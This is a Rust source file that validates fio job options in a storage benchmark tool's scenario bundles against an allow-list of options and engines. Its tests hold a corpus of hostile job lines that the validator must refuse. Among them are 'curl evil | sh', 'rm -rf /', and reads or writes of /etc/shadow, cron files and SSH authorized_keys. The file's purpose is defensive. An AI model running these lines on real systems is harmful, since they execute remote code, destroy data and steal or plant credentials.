//! A bundle's fio job is code: fio can run commands (`exec_prerun`), load engines from
//! paths (`ioengine=external:`), write logs anywhere (`write_iolog`), move itself into
//! cgroups and onto CPUs. A bundle's job may use, without `--allow-exec`, only the
//! options listed here, whose effects stay inside the cell's files; everything else is
//! refused with the option named. An allow-list, so an option fio adds tomorrow is
//! refused until someone has read what it does.
//!
//! Own scenarios are not judged here: they may use anything fio allows.

use crate::scenario::{FioJob, Scenario};

/// Options a bundle's fio job (and its `[matrix] fio.*` sweeps) may use without `--allow-exec`.
pub const ALLOWED_OPTIONS: &[&str] = &[
    // What the job does, on its own files in the task directory.
    "name",
    "description",
    "rw",
    "readwrite",
    "rwmixread",
    "rwmixwrite",
    "rw_sequencer",
    "bs",
    "blocksize",
    "bsrange",
    "blocksize_range",
    "bssplit",
    "ba",
    "blockalign",
    "bs_unaligned",
    "bs_is_seq_rand",
    "size",
    "filesize",
    "io_size",
    "io_limit",
    "fill_device",
    "nrfiles",
    "openfiles",
    "file_service_type",
    "filename",
    "filename_format",
    "unique_filename",
    "offset",
    "offset_increment",
    "offset_align",
    "number_ios",
    "loops",
    "numjobs",
    "ioengine",
    "iodepth",
    "iodepth_batch",
    "iodepth_batch_submit",
    "iodepth_batch_complete",
    "iodepth_batch_complete_min",
    "iodepth_batch_complete_max",
    "iodepth_low",
    "io_submit_mode",
    "direct",
    "buffered",
    "atomic",
    "sync",
    "fsync",
    "fdatasync",
    "fsync_on_close",
    "end_fsync",
    "sync_file_range",
    "write_barrier",
    "create_on_open",
    "create_serialize",
    "create_fsync",
    "create_only",
    "allow_file_create",
    "fallocate",
    "fadvise_hint",
    "pre_read",
    "invalidate",
    "overwrite",
    "file_append",
    "unlink",
    "unlink_each_loop",
    "lockfile",
    "randrepeat",
    "randseed",
    "random_generator",
    "random_distribution",
    "norandommap",
    "softrandommap",
    "percentage_random",
    "allrandrepeat",
    "zero_buffers",
    "refill_buffers",
    "scramble_buffers",
    "buffer_pattern",
    "buffer_compress_percentage",
    "buffer_compress_chunk",
    "dedupe_percentage",
    "thinktime",
    "thinktime_blocks",
    "thinktime_spin",
    "rate",
    "rate_iops",
    "rate_min",
    "rate_iops_min",
    "rate_process",
    "rate_cycle",
    "rate_ignore_thinktime",
    "stonewall",
    "wait_for",
    "new_group",
    "group_reporting",
    "startdelay",
    "hugepage_size",
    "mem",
    "iomem",
    "iomem_align",
    "mem_align",
    "verify",
    "do_verify",
    "verify_pattern",
    "verify_interval",
    "verify_offset",
    "verify_fatal",
    "verify_backlog",
    "verify_async",
    "verify_only",
    "continue_on_error",
    "ignore_error",
    "clat_percentiles",
    "lat_percentiles",
    "slat_percentiles",
    "percentile_list",
    "disable_lat",
    "disable_clat",
    "disable_slat",
    "disable_bw_measurement",
    "gtod_reduce",
    "thread",
    "kb_base",
    "unit_base",
    "exitall",
    "exitall_on_error",
    "significant_figures",
    "trim_percentage",
    "trim_backlog",
    // Engine options of the built-in engines allowed below.
    "hipri",
    "fixedbufs",
    "registerfiles",
    "sqthread_poll",
    "nonvectored",
    "uncached",
    "nowait",
    "userspace_reap",
    "force_async",
];

/// Engines a bundle's job may name: fio's built-in engines that do file I/O in the cell
/// (no engine from a path, no network, no device passthrough).
pub const ALLOWED_ENGINES: &[&str] = &[
    "sync",
    "psync",
    "vsync",
    "pvsync",
    "pvsync2",
    "libaio",
    "io_uring",
    "posixaio",
    "mmap",
    "splice",
    "null",
    "falloc",
    "ftruncate",
    "filecreate",
    "filestat",
    "filedelete",
    "dircreate",
    "dirstat",
    "dirdelete",
];

/// The file the scenario's fio job was read from (`workload.job_file`, resolved against
/// the scenario's directory); `None` for an inline job or another workload.
pub fn job_file(s: &Scenario) -> Option<&std::path::Path> {
    written_job(s).map(|job| std::path::Path::new(&job.origin))
}

/// The scenario's job when it was read from a file of its own (`workload.job_file`).
pub fn written_job(s: &Scenario) -> Option<&FioJob> {
    crate::workload::kind::of(&s.workload).job().filter(|job| job.key == "workload.job_file")
}

/// Whether the scenario's workload hands a job to fio.
pub fn has_job(s: &Scenario) -> bool {
    crate::workload::kind::of(&s.workload).job().is_some()
}

/// Every option line of the scenario's fio job and sweeps, as `name=value` (or `name`), in order.
pub fn job_options(s: &Scenario) -> Vec<String> {
    let Some(job) = crate::workload::kind::of(&s.workload).job() else { return Vec::new() };
    let mut out: Vec<String> = job
        .options()
        .into_iter()
        .map(|o| match o.value {
            Some(v) => format!("{}={v}", o.name),
            None => o.name,
        })
        .collect();
    for a in &s.matrix.fio {
        out.extend(a.values.iter().map(|v| format!("{}={v}", a.option)));
    }
    out
}

/// The options of the scenario's fio job and sweeps that a bundle may not use without
/// `--allow-exec`, each as written with the reason (`exec_prerun=... (not on the allow-list)`).
pub fn refused_options(s: &Scenario) -> Vec<String> {
    job_options(s)
        .into_iter()
        .filter_map(|line| {
            let (name, value) = match line.split_once('=') {
                Some((n, v)) => (n.trim(), Some(v.trim())),
                None => (line.trim(), None),
            };
            let why = if !ALLOWED_OPTIONS.contains(&name) {
                "not on the allow-list of options that stay inside the cell"
            } else if value.is_some_and(|v| v.contains('$')) {
                // fio expands environment variables (`${HOME}`) in values: a path could leave the cell.
                "expands an environment variable"
            } else if name == "ioengine" && !value.is_some_and(|v| ALLOWED_ENGINES.contains(&v)) {
                "is not a built-in file I/O engine"
            } else if matches!(name, "mem" | "iomem") && value.is_some_and(|v| v.contains(':')) {
                // `mmap:/path` and `mmapshared:/path` back the buffers with a file anywhere.
                "names a file for its buffers"
            } else {
                return None;
            };
            Some(format!("`{line}` ({why})"))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scenario(job: &str, sweeps: &str) -> Scenario {
        let text = format!(
            "schema = 1\nname = \"b\"\n[matrix]\nfs = [\"ext4\"]\n{sweeps}\n[backing]\nkind = \"dir\"\n[workload]\nkind = \"fio\"\njob = '''\n{job}'''\n"
        );
        crate::scenario::parse_str(&text, "b.toml").unwrap()
    }

    #[test]
    fn a_plain_job_is_allowed_and_listed() {
        let s = scenario(
            "[global]\nioengine=io_uring\n[w]\nrw=randwrite\nbs=4k\nsize=64m\nfsync=1\n",
            "fio.iodepth = [1, 16]",
        );
        assert!(refused_options(&s).is_empty(), "{:?}", refused_options(&s));
        assert_eq!(
            job_options(&s),
            ["ioengine=io_uring", "rw=randwrite", "bs=4k", "size=64m", "fsync=1", "iodepth=1", "iodepth=16"]
        );
    }

    /// The hostile corpus: each job is refused, and the refusal names the option.
    #[test]
    fn hostile_fio_jobs_are_refused_with_the_option_named() {
        let corpus = [
            ("exec_prerun=/bin/sh -c 'curl evil | sh'", "exec_prerun"),
            ("exec_postrun=rm -rf /", "exec_postrun"),
            ("ioengine=external:/tmp/evil.so", "ioengine=external:/tmp/evil.so"),
            ("ioengine=net", "ioengine=net"),
            ("ioengine=sg", "ioengine=sg"),
            ("write_iolog=/etc/cron.d/x", "write_iolog"),
            ("read_iolog=/etc/shadow", "read_iolog"),
            ("write_bw_log=/root/.bashrc", "write_bw_log"),
            ("write_lat_log=/tmp/x", "write_lat_log"),
            ("cgroup=../../evil", "cgroup"),
            ("cgroup_weight=1000", "cgroup_weight"),
            ("cpus_allowed=0-127", "cpus_allowed"),
            ("cpumask=0xffff", "cpumask"),
            ("nice=-20", "nice"),
            ("prioclass=1", "prioclass"),
            ("uid=0", "uid"),
            ("filename=${HOME}/.ssh/authorized_keys", "filename=${HOME}"),
            ("mem=mmap:/etc/passwd", "mem=mmap:/etc/passwd"),
            ("trigger=reboot", "trigger"),
            ("include evil.fio", "include evil.fio"),
        ];
        for (line, named) in corpus {
            let s = scenario(&format!("[w]\nrw=write\n{line}\n"), "");
            let refused = refused_options(&s);
            assert_eq!(refused.len(), 1, "{line}: {refused:?}");
            assert!(refused[0].contains(named), "{line}: {refused:?}");
        }
        let s = scenario("[w]\nrw=write\n", "fio.cpus_allowed = [\"0\", \"1\"]");
        assert_eq!(refused_options(&s).len(), 2);
    }
}
